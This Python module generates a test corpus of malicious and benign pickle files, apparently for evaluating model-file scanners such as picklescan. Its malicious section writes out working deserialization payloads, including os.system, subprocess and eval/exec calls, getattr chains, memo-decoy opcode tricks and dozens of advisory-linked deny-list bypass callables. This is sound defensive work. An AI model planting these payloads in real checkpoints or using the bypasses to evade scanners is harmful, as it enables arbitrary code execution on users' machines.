"""Class `pickle`: raw pickle streams, malicious and benign.

Malicious shapes: os/posix.system, subprocess, builtins.eval/exec, getattr
chains, protocols 0-5, STACK_GLOBAL with memo tricks, INST/OBJ, a second
pickle after a benign first one, and one case per 2025/2026 picklescan
bypass advisory (the callables picklescan's deny-list missed, reproduced
by shape from picklescan's own tests/init_data_files.py and the advisories
they name). Benign shapes: what torch.save, numpy and fairseq-style
checkpoints really contain (see allowlist.py for the source of each).

Every byte is written by pickleasm; nothing is ever unpickled.
"""
import argparse
import collections
import pickle

from common import CMD
from pickleasm import (BINPERSID, BUILD, EMPTY_DICT, EMPTY_LIST, EMPTY_TUPLE, INST, MARK, MEMOIZE,
                       NEWFALSE, NONE, OBJ, POP, REDUCE, STACK_GLOBAL, STOP, TUPLE, TUPLE1, TUPLE2, Raw,
                       binget, binint, binput, binunicode, call, frame, glob, plain_data, proto,
                       reduce_call, short_binunicode, text_get, text_put, text_string, text_unicode)

CLS = "pickle"
CODE = ["pickle.code_execution"]
RCE = "loading it calls {} with attacker-chosen arguments: arbitrary code execution"
PY = "__import__('os').system('" + CMD + "')"


def malicious(corpus, name, data, technique, why=None, advisory=None, callable_name=None):
    corpus.add_file(f"pickle/{name}", data, CLS, technique, "malicious",
                    why or RCE.format(callable_name or "a dangerous callable"), advisory, CODE)


def benign(corpus, name, data, technique, why):
    corpus.add_file(f"pickle/{name}", data, CLS, technique, "benign", why)


# ---------------------------------------------------------------- malicious
def classic(corpus):
    for p in range(6):
        malicious(corpus, f"os-system-proto{p}.pkl", reduce_call("os", "system", [CMD], p),
                  f"os.system(cmd) through REDUCE, protocol {p} as pickle.dumps lays it out",
                  callable_name="os.system")
    malicious(corpus, "posix-system-proto2.pkl", reduce_call("posix", "system", [CMD], 2),
              "posix.system: what pickle.dumps(os.system) names on Linux", callable_name="posix.system")
    malicious(corpus, "nt-system-proto2.pkl", reduce_call("nt", "system", [CMD], 2),
              "nt.system: os.system's Windows module name", callable_name="nt.system")
    for name, args, p in (("Popen", [Raw(MARK + binunicode("sh") + binunicode("-c") + binunicode(CMD)
                                         + b"l")], 3),
                          ("run", [CMD], 4), ("check_output", [CMD], 4), ("call", [CMD], 2),
                          ("getoutput", [CMD], 4)):
        malicious(corpus, f"subprocess-{name.lower()}.pkl", reduce_call("subprocess", name, args, p),
                  f"subprocess.{name}, protocol {p}", callable_name=f"subprocess.{name}")
    malicious(corpus, "builtins-eval-proto4.pkl", reduce_call("builtins", "eval", [PY], 4),
              "builtins.eval of Python source (STACK_GLOBAL, MEMOIZE, FRAME)", callable_name="builtins.eval")
    malicious(corpus, "builtins-exec-proto5.pkl", reduce_call("builtins", "exec", [PY], 5),
              "builtins.exec of Python source, protocol 5", callable_name="builtins.exec")
    malicious(corpus, "builtin-eval-py2-name.pkl", reduce_call("__builtin__", "eval", [PY], 0),
              "__builtin__.eval: Python 2 module name, mapped to builtins by the unpickler's fix_imports",
              callable_name="__builtin__.eval")
    malicious(corpus, "builtins-compile-exec.pkl",
              proto(2) + call(glob("builtins", "exec"),
                              [call(glob("builtins", "compile"),
                                    [binunicode(PY), binunicode("<x>"), binunicode("exec")])]) + STOP,
              "builtins.exec(builtins.compile(src, ...)): a code object built inside the pickle",
              callable_name="builtins.compile and builtins.exec")
    # getattr(__import__('os'), 'system')(cmd), the chain most deny-lists miss
    # when only the outer callable is checked.
    imp = call(glob("builtins", "__import__"), [binunicode("os")])
    chain = call(call(glob("builtins", "getattr"), [imp, binunicode("system")]), [binunicode(CMD)])
    malicious(corpus, "builtins-getattr-import-chain.pkl", proto(2) + chain + STOP,
              "getattr(__import__('os'), 'system')(cmd): callables built from other callables' results",
              callable_name="builtins.getattr/__import__ then os.system")
    # operator.attrgetter('system')(__import__('os'))(cmd)
    attrget = call(glob("operator", "attrgetter"), [binunicode("system")])
    chain = call(call(attrget, [imp]), [binunicode(CMD)])
    malicious(corpus, "operator-attrgetter-chain.pkl", proto(2) + chain + STOP,
              "operator.attrgetter('system') applied to __import__('os'): attribute access by a callable",
              callable_name="operator.attrgetter")
    attrget = call(glob("_operator", "attrgetter"), [binunicode("system")])
    malicious(corpus, "_operator-attrgetter-chain.pkl",
              proto(2) + call(call(attrget, [imp]), [binunicode(CMD)]) + STOP,
              "_operator.attrgetter (the C module behind operator): picklescan's pull request 54 "
              "('Fix _operator') closed this spelling", callable_name="_operator.attrgetter")
    # Sour pickles (BlackHat US 2011): protocol 0 with globals/compile/eval/getattr/apply.
    sour = (b"c__builtin__\nglobals\n(tRp100\n0c__builtin__\ncompile\n(S'" + PY.encode()
            + b"'\nS''\nS'exec'\ntRp101\n0c__builtin__\neval\n(g101\ng100\ntRp102\n0g102\n.")
    malicious(corpus, "sour-pickles-globals-compile-eval.pkl", sour,
              "protocol 0 text pickle: __builtin__.globals/compile/eval with PUT/GET memo references "
              "(Slaviero, 'Sour Pickles', BlackHat US 2011)", callable_name="__builtin__.eval")


def opcode_tricks(corpus):
    # INST: MARK args INST module name (protocol 0 class instantiation).
    malicious(corpus, "inst-opcode.pkl", MARK + text_string(PY) + INST + b"builtins\nexec\n" + STOP,
              "INST opcode: calls builtins.exec(src) without GLOBAL or REDUCE", callable_name="builtins.exec")
    malicious(corpus, "obj-opcode.pkl", MARK + glob("os", "system") + text_string(CMD) + OBJ + STOP,
              "OBJ opcode: MARK callable args OBJ calls os.system without REDUCE", callable_name="os.system")
    # STACK_GLOBAL whose operands are protocol-0 STRINGs, not BINUNICODE
    # (GHSA-9gvj-pp9x-gcfr: the scanner only resolved unicode operands).
    data = (text_string("os") + text_string("system") + STACK_GLOBAL + text_string(CMD)
            + TUPLE1 + REDUCE + STOP)
    malicious(corpus, "stack-global-string-operands.pkl", data,
              "STACK_GLOBAL fed by STRING opcodes instead of BINUNICODE",
              advisory="GHSA-9gvj-pp9x-gcfr", callable_name="os.system")
    # Memo decoys: names PUT under one index, harmless names pushed after, the
    # real names fetched by GET (picklescan issue 22 / malicious11 shape).
    data = (text_unicode("os") + text_put(2) + POP + text_unicode("system") + text_put(3) + POP
            + text_unicode("torch") + text_put(0) + POP + text_unicode("LongStorage") + text_put(1) + POP
            + text_get(2) + text_get(3) + STACK_GLOBAL + MARK + text_unicode(CMD) + TUPLE + REDUCE + STOP)
    malicious(corpus, "stack-global-memo-decoy-text.pkl", data,
              "STACK_GLOBAL operands fetched from the memo by text GET, with torch.LongStorage decoys "
              "stored alongside", callable_name="os.system")
    body = (short_binunicode("torch") + MEMOIZE + short_binunicode("os") + MEMOIZE
            + short_binunicode("_utils") + MEMOIZE + short_binunicode("system") + MEMOIZE
            + POP + POP + POP + POP + binget(1) + binget(3) + STACK_GLOBAL
            + short_binunicode(CMD) + TUPLE1 + REDUCE + STOP)
    malicious(corpus, "stack-global-memo-binget.pkl", proto(4) + frame(body),
              "STACK_GLOBAL operands fetched by BINGET from MEMOIZE slots, torch/_utils pushed as decoys",
              callable_name="os.system")
    # Payload first, then a STACK_GLOBAL on a memo key that does not exist:
    # CPython runs os.system, then fails; a scanner that raises on the bad key
    # may drop the whole file (picklescan data2/keyerror-exploit.pkl shape).
    data = (proto(4) + glob("os", "system") + text_unicode(CMD) + TUPLE1 + REDUCE + POP
            + short_binunicode("os") + MEMOIZE + binget(3) + binget(0) + STACK_GLOBAL + binint(0x42) + STOP)
    malicious(corpus, "payload-then-memo-keyerror.pkl", data,
              "os.system call, then a STACK_GLOBAL on a missing memo key: the loader runs the payload "
              "before it fails; a scanner that gives up on the error misses it", callable_name="os.system")
    data = (proto(4) + glob("os", "system") + text_unicode(CMD) + TUPLE1 + REDUCE + POP
            + binint(42) + MEMOIZE + short_binunicode("os") + MEMOIZE + binget(0) + binget(1)
            + STACK_GLOBAL + binint(0x42) + STOP)
    malicious(corpus, "payload-then-type-confusion.pkl", data,
              "os.system call, then STACK_GLOBAL on an int: type confusion after the payload ran",
              callable_name="os.system")
    # A benign pickle, then a malicious one: legacy torch.load reads several
    # pickles in a row, and scanners that stop at the first STOP miss it.
    malicious(corpus, "second-pickle-after-benign.pkl",
              plain_data(2) + reduce_call("os", "system", [CMD], 2),
              "a benign pickle followed by a malicious one in the same stream", callable_name="os.system")
    malicious(corpus, "payload-then-garbage-tail.pkl",
              reduce_call("os", "system", [CMD], 4) + b"\n\n\t\t\xff\xfe",
              "malicious pickle followed by bytes that are not a pickle (picklescan "
              "malicious-invalid-bytes shape)", callable_name="os.system")
    # The callable is put in the memo and popped; called much later by BINGET.
    body = (short_binunicode("builtins") + MEMOIZE + short_binunicode("eval") + MEMOIZE + STACK_GLOBAL
            + MEMOIZE + POP + EMPTY_DICT + MEMOIZE + POP + short_binunicode("padding") + MEMOIZE + POP
            + binget(2) + short_binunicode(PY) + TUPLE1 + REDUCE + STOP)
    malicious(corpus, "callable-from-memo-later.pkl", proto(4) + frame(body),
              "builtins.eval imported, stored in the memo and popped; called much later from BINGET",
              callable_name="builtins.eval")
    # REDUCE then BUILD: functools.partial's __setstate__ takes attacker state.
    data = (proto(2) + glob("functools", "partial") + glob("os", "system") + TUPLE1 + REDUCE
            + MARK + glob("os", "system") + binunicode(CMD) + TUPLE1 + EMPTY_DICT + NONE + TUPLE
            + BUILD + EMPTY_TUPLE + REDUCE + STOP)
    malicious(corpus, "functools-partial-setstate.pkl", data,
              "functools.partial built by REDUCE, its __setstate__ fed os.system and args by BUILD, then called",
              callable_name="functools.partial(os.system)")
    data = (proto(4) + frame(stack_global_b("functools", "partial") + stack_global_b("torch", "load")
                             + short_binunicode("other_model.bin") + TUPLE2 + MEMOIZE + REDUCE
                             + EMPTY_TUPLE + REDUCE + STOP))
    malicious(corpus, "functools-partial-torch-load.pkl", data,
              "functools.partial(torch.load, path) called: loads a second, unscanned file "
              "(picklescan Malicious19 shape)", callable_name="functools.partial(torch.load)")


def stack_global_b(module, name):
    return short_binunicode(module) + MEMOIZE + short_binunicode(name) + MEMOIZE + STACK_GLOBAL + MEMOIZE


# (module, qualified name, args, advisory, note). The callables picklescan's
# deny-list missed, each reported and fixed one by one in 2025-2026; shapes
# from picklescan's tests/init_data_files.py (reduce_GHSA_* functions).
BYPASS_CALLABLES = [
    ("pip", "main", [Raw(MARK + binunicode("install") + binunicode("some_malicious_package") + b"l")],
     "CVE-2025-1716", "pip.main(['install', ...]) installs and runs a package"),
    ("timeit", "timeit", ["", PY], "GHSA-v7x6-rv5q-mhwc", "timeit.timeit(stmt) executes stmt"),
    ("cProfile", "run", [PY], "GHSA-49gj-c84q-6qm9", "cProfile.run(src) executes src"),
    ("cProfile", "runctx", [PY, None, None], "GHSA-9w88-8rmg-7g2p", "cProfile.runctx(src, ...) executes src"),
    ("profile", "Profile.run", [Raw(EMPTY_DICT), PY], "GHSA-x696-vm39-cp64", "profile.Profile.run(self, src)"),
    ("profile", "Profile.runctx", [Raw(EMPTY_DICT), PY, Raw(EMPTY_DICT), Raw(EMPTY_DICT)],
     "GHSA-6vqj-c2q5-j97w", "profile.Profile.runctx(self, src, g, l)"),
    ("trace", "Trace.run", [Raw(EMPTY_DICT), PY], "GHSA-5qwp-399c-mjwf", "trace.Trace.run(self, src)"),
    ("trace", "Trace.runctx", [Raw(EMPTY_DICT), PY, Raw(EMPTY_DICT), Raw(EMPTY_DICT)],
     "GHSA-g344-hcph-8vgg", "trace.Trace.runctx(self, src, g, l)"),
    ("code", "InteractiveInterpreter.runcode", [Raw(EMPTY_DICT), PY], "GHSA-cj3c-v495-4xqh",
     "code.InteractiveInterpreter.runcode(self, src)"),
    ("idlelib.pyshell", "ModifiedInterpreter.runcode", [Raw(EMPTY_DICT), PY], "GHSA-3gf5-cxq9-w223",
     "idlelib.pyshell.ModifiedInterpreter.runcode"),
    ("idlelib.run", "Executive.runcode", [Raw(EMPTY_DICT), PY], "GHSA-m869-42cg-3xwr",
     "idlelib.run.Executive.runcode"),
    ("idlelib.calltip", "get_entity", [PY], "GHSA-9xph-j2h6-g47v", "idlelib.calltip.get_entity evals its argument"),
    ("idlelib.autocomplete", "AutoComplete.get_entity", [Raw(EMPTY_DICT), PY], "GHSA-6w4w-5w54-rjvr",
     "idlelib.autocomplete.AutoComplete.get_entity evals its argument"),
    ("idlelib.debugobj", "ObjectTreeItem.SetText", [Raw(EMPTY_DICT), PY], "GHSA-3vg9-h568-4w9m",
     "idlelib.debugobj.ObjectTreeItem.SetText evals its argument"),
    ("lib2to3.pgen2.grammar", "Grammar.loads", [Raw(EMPTY_DICT), b""], "GHSA-f54q-57x4-jg88",
     "lib2to3 Grammar.loads unpickles a nested pickle"),
    ("lib2to3.pgen2.pgen", "ParserGenerator.make_label", [None, Raw(EMPTY_DICT), '""+' + PY],
     "GHSA-p9w7-82w4-7q8m", "lib2to3 ParserGenerator.make_label evals a label"),
    ("ensurepip", "_run_pip", [PY], "GHSA-xp4f-hrf8-rxw7", "ensurepip._run_pip execs its argument"),
    ("pty", "spawn", [Raw(MARK + binunicode("/bin/sh") + binunicode("-c") + binunicode(CMD) + b"l")],
     "GHSA-vqmv-47xg-9wpr", "pty.spawn runs a program"),
    ("distutils.file_util", "write_file", ["pwned_config.env", Raw(MARK + binunicode("x") + b"l")],
     "GHSA-m273-6v24-x4m4", "distutils.file_util.write_file writes any file"),
    ("ctypes", "CDLL", [None], "GHSA-4675-36f9-wf6r", "ctypes.CDLL loads native code"),
    ("pydoc", "pipepager", ["", CMD], None, "pydoc.pipepager runs a shell command (picklescan Malicious18)"),
    ("pkgutil", "resolve_name", ["os:system"], "GHSA-vvpj-8cmc-gx39",
     "pkgutil.resolve_name returns any callable by name: a universal deny-list bypass"),
    ("importlib", "import_module", ["os"], None,
     "importlib.import_module returns any module (picklescan issue 66: the same indirection class)"),
    ("numpy.f2py.crackfortran", "getlincoef", [PY, Raw(EMPTY_LIST)], "GHSA-r8g5-cgf2-4m4m",
     "numpy.f2py.crackfortran.getlincoef evals its argument"),
    ("numpy.testing._private.utils", "runstring", [PY, Raw(EMPTY_DICT)], None,
     "numpy.testing._private.utils.runstring execs its argument (picklescan Malicious22)"),
    ("torch.utils.bottleneck.__main__", "run_cprofile", [PY, Raw(EMPTY_DICT)], "GHSA-4r9r-ch6f-vxmx",
     "torch bottleneck run_cprofile execs code"),
    ("torch._dynamo.guards", "GuardBuilder.get", [Raw(EMPTY_DICT), PY], "GHSA-86cj-95qr-2p4f",
     "torch._dynamo GuardBuilder.get evals a guard"),
    ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression",
     [Raw(EMPTY_DICT), PY, Raw(EMPTY_LIST)], "GHSA-f4x7-rfwp-v3xw", "torch ShapeEnv evaluates an expression"),
    ("torch.utils.collect_env", "run", [CMD], "GHSA-f745-w6jp-hpxx", "torch collect_env.run runs a command"),
    ("torch.jit.unsupported_tensor_ops", "execWrapper", [PY, Raw(EMPTY_DICT), Raw(EMPTY_DICT)],
     "GHSA-vr7h-p6mm-wpmh", "torch.jit execWrapper execs code"),
    ("torch._inductor.codecache", "compile_file", ["", "", Raw(MARK + binunicode("sh") + binunicode("-c")
                                                              + binunicode(CMD) + b"l")],
     None, "torch._inductor.codecache.compile_file runs a compiler command (picklescan Malicious17)"),
    ("asyncio.unix_events", "_UnixSubprocessTransport._start",
     [Raw(EMPTY_DICT), CMD, True, None, None, None, 0], "CVE-2025-10157",
     "a submodule of a denied module (asyncio.unix_events): the deny-list matched module names exactly"),
    ("runpy", "_run_code", [PY], None, "runpy._run_code execs code (picklescan Malicious14)"),
    ("bdb", "Bdb.run", [Raw(EMPTY_DICT), PY], None, "bdb.Bdb.run execs code (picklescan Malicious15)"),
    ("doctest", "debug_script", [PY, True], "GHSA-fqq6-7vqf-w3fg", "doctest.debug_script execs code"),
    ("venv", "create", ["venv", False, False, True, False, "$(" + CMD + ")"], None,
     "venv.create with a prompt that a shell expands (picklescan Malicious20)"),
    ("uuid", "_get_command_stdout", ["sh", "-c", CMD], "CVE-2026-56315",
     "uuid._get_command_stdout runs a command (one of the stdlib modules picklescan < 1.0.4 missed)"),
    ("imaplib", "IMAP4_stream", [CMD], "CVE-2026-56315", "imaplib.IMAP4_stream runs a command"),
    ("webbrowser", "open", ["file:///etc/passwd"], None, "webbrowser.open launches a program"),
    ("shutil", "rmtree", ["/tmp/lbom-threat-corpus-nonexistent"], None, "shutil.rmtree deletes a tree"),
    ("socket", "create_connection", [Raw(binunicode("127.0.0.1") + binint(9) + TUPLE2)], None,
     "socket.create_connection opens a network connection"),
    ("urllib.request", "urlopen", ["http://127.0.0.1:9/"], None, "urllib.request.urlopen fetches a URL"),
    ("io", "FileIO", ["/etc/hosts", "r"], None, "io.FileIO opens any file"),
    ("builtins", "open", ["/etc/hosts"], None, "builtins.open opens any file"),
    ("sys", "exit", [0], None, "sys.exit ends the loading process"),
    ("pickle", "loads", [b"I12345\n."], None, "pickle.loads unpickles a nested, unscanned pickle"),
    ("_pickle", "loads", [b"I12345\n."], None, "_pickle.loads: the C unpickler, same effect"),
    ("marshal", "loads", [b"N"], None, "marshal.loads builds code objects"),
    ("types", "FunctionType", [None, Raw(EMPTY_DICT)], None, "types.FunctionType builds a function from a code object"),
]


def bypasses(corpus):
    for module, qual, args, advisory, note in BYPASS_CALLABLES:
        slug = (module + "-" + qual).replace(".", "-").lower()
        malicious(corpus, f"bypass-{slug}.pkl", reduce_call(module, qual, args, 4),
                  f"{module}.{qual}: {note}", advisory=advisory,
                  why=f"loading it calls {module}.{qual}, a callable that runs code, files, processes or "
                      "network without being one of the obvious names (os.system, eval) deny-lists check",
                  callable_name=f"{module}.{qual}")
    # The same dotted callable at protocol 2: getattr(class, 'method').
    malicious(corpus, "bypass-profile-run-proto2-getattr.pkl",
              reduce_call("profile", "Profile.run", [Raw(EMPTY_DICT), PY], 2),
              "profile.Profile.run at protocol 2: builtins.getattr(profile.Profile, 'run')",
              advisory="GHSA-x696-vm39-cp64", callable_name="builtins.getattr(profile.Profile, 'run')")
    # A raw pickle named like a torch checkpoint (CVE-2025-10155: picklescan
    # took the PyTorch-zip path for .bin/.pt names and failed on a raw pickle).
    malicious(corpus, "pytorch_model.bin", reduce_call("os", "system", [CMD], 2),
              "a raw (non-zip) malicious pickle with a PyTorch file name (.bin)",
              advisory="CVE-2025-10155", callable_name="os.system")
    malicious(corpus, "model.pt", reduce_call("builtins", "exec", [PY], 4),
              "a raw (non-zip) malicious pickle named .pt", advisory="CVE-2025-10155",
              callable_name="builtins.exec")


# ---------------------------------------------------------------- benign
def torch_state_dict_pickle(storage_type="FloatStorage", numel=4, key="0", protocol=2):
    """The data.pkl torch.save writes for {'weight': tensor of `numel` floats}:
    protocol 2, OrderedDict, torch._utils._rebuild_tensor_v2, the storage as a
    persistent id ('storage', storage type, key, location, numel), then the
    `_metadata` attribute set by BUILD. Layout per torch/serialization.py
    (`_save`: pickle_protocol=2, `persistent_id` returns that 5-tuple) and
    torch/_tensor.py (`Tensor.__reduce_ex__` -> `_rebuild_tensor_v2`)."""
    od = glob("collections", "OrderedDict")
    pid = (MARK + binunicode("storage") + glob("torch", storage_type) + binunicode(key)
           + binunicode("cpu") + binint(numel) + TUPLE + BINPERSID)
    # _rebuild_tensor_v2(storage, offset, size, stride, requires_grad, backward_hooks)
    args = (MARK + pid + binint(0) + binint(numel) + TUPLE1 + binint(1) + TUPLE1 + NEWFALSE
            + binget(0) + EMPTY_TUPLE + REDUCE + TUPLE)
    tensor = glob("torch._utils", "_rebuild_tensor_v2") + args + REDUCE
    # OrderedDict(); ['weight'] = tensor; BUILD {'_metadata': OrderedDict({'': {'version': 1}})}
    body = (od + binput(0) + EMPTY_TUPLE + REDUCE + binput(1) + binunicode("weight") + binput(2)
            + tensor + binput(3) + b"s"
            + EMPTY_DICT + binput(4) + binunicode("_metadata") + binput(5) + binget(0) + EMPTY_TUPLE
            + REDUCE + binput(6) + binunicode("") + binput(7) + EMPTY_DICT + binput(8)
            + binunicode("version") + binput(9) + binint(1) + b"s" + b"s" + b"s" + BUILD + STOP)
    return proto(protocol) + body


def real_pickle(obj, protocol):
    """pickle.dumps of a benign, data-only object (never a hostile one)."""
    return pickle.dumps(obj, protocol=protocol)


def benign_cases(corpus):
    for p in range(6):
        benign(corpus, f"plain-data-proto{p}.pkl", plain_data(p),
               f"a dict of str/int/float/list/bool/None (and bytes from protocol 3) at protocol {p}",
               "no import at all: nothing runs on load")
    # bytes at protocol 2: _codecs.encode(str, 'latin1'), torch.save's default.
    data = (proto(2) + EMPTY_DICT + binput(0) + binunicode("blob") + binput(1)
            + call(glob("_codecs", "encode"), [binunicode("\x00\x01abc\xff"), binunicode("latin1")])
            + binput(2) + b"s" + STOP)
    benign(corpus, "codecs-encode-bytes-proto2.pkl", data,
           "bytes pickled at protocol 2: _codecs.encode(text, 'latin1'), how torch.save (protocol 2) stores bytes",
           "_codecs.encode only turns a str into bytes; torch's weights_only unpickler allows it")
    benign(corpus, "torch-state-dict-data.pkl", torch_state_dict_pickle(),
           "torch.save's data.pkl for one float tensor: OrderedDict, _rebuild_tensor_v2, FloatStorage "
           "persistent id, _metadata BUILD (hand-written per torch/serialization.py)",
           "every import is on torch's weights_only allow-list")
    benign(corpus, "torch-state-dict-bf16.pkl", torch_state_dict_pickle("BFloat16Storage", 8),
           "torch.save data.pkl with a BFloat16Storage", "torch's weights_only allow-list")
    # numpy scalars and dtypes, as real numpy pickles them (numpy >= 2 names
    # numpy._core; numpy 1.x names numpy.core, hand-written below).
    import numpy as np  # noqa: PLC0415 - only the benign cases need numpy
    benign(corpus, "numpy-scalar-float64-proto2.pkl", real_pickle({"best_metric": np.float64(0.25)}, 2),
           f"a numpy float64 scalar pickled by numpy {np.__version__} (numpy._core.multiarray.scalar, numpy.dtype)",
           "scalar/dtype rebuild a number from bytes; Lightning and trainer checkpoints carry them")
    scalar_np1 = (proto(2) + EMPTY_DICT + binput(0) + binunicode("best_metric") + binput(1)
                  + glob("numpy.core.multiarray", "scalar") + binput(2)
                  + call(glob("numpy", "dtype"), [binunicode("f8"), binint(0), binint(1)]) + binput(3)
                  + MARK + binint(3) + binunicode("<") + NONE + NONE + NONE + binint(0xFFFFFFFF - (1 << 32))
                  + binint(0xFFFFFFFF - (1 << 32)) + binint(0) + TUPLE + BUILD
                  + call(glob("_codecs", "encode"), [binunicode("\x00\x00\x00\x00\x00\x00\xd0?"),
                                                     binunicode("latin1")])
                  + TUPLE2 + REDUCE + binput(4) + b"s" + STOP)
    benign(corpus, "numpy-core-scalar-np1-proto2.pkl", scalar_np1,
           "numpy 1.x layout: numpy.core.multiarray.scalar(numpy.dtype('f8'), bytes via _codecs.encode)",
           "the numpy 1.x names real checkpoints written before numpy 2 carry")
    benign(corpus, "numpy-dtype-proto4.pkl", real_pickle(np.dtype("float32"), 4),
           "a numpy.dtype pickled by numpy", "numpy.dtype builds a dtype object, no code")
    benign(corpus, "numpy-ndarray-proto2.pkl", real_pickle({"mean": np.arange(4, dtype=np.float32)}, 2),
           "a float32 ndarray pickled by numpy (multiarray._reconstruct, ndarray, dtype)",
           "the numpy rebuild callables create an array from bytes")
    ns = argparse.Namespace(arch="roberta_large", lr=[0.0001], max_tokens=4096, fp16=True)
    benign(corpus, "argparse-namespace-fairseq-args.pkl", real_pickle({"args": ns, "model": {}}, 2),
           "fairseq-style checkpoint dict whose 'args' is an argparse.Namespace",
           "argparse.Namespace only stores attributes; fairseq/ESM checkpoints carry it (esm/pretrained.py "
           "reads model_data['args'].arch)")
    benign(corpus, "ordereddict-proto2.pkl",
           real_pickle(collections.OrderedDict([("layer.weight", [1.0, 2.0]), ("layer.bias", [0.5])]), 2),
           "collections.OrderedDict of lists: the state-dict container",
           "OrderedDict is on torch's weights_only allow-list")
    benign(corpus, "builtins-set-complex-bytearray.pkl",
           real_pickle({"ids": {1, 2, 3}, "z": complex(1, 2), "buf": bytearray(b"ab")}, 2),
           "set, complex and bytearray at protocol 2 (builtins.set/complex/bytearray)",
           "torch's weights_only allow-list includes builtins.set, builtins.complex, builtins.bytearray")
    benign(corpus, "collections-counter.pkl", real_pickle(collections.Counter("aab"), 2),
           "collections.Counter", "on torch's weights_only allow-list")


def build(corpus):
    classic(corpus)
    opcode_tricks(corpus)
    bypasses(corpus)
    benign_cases(corpus)
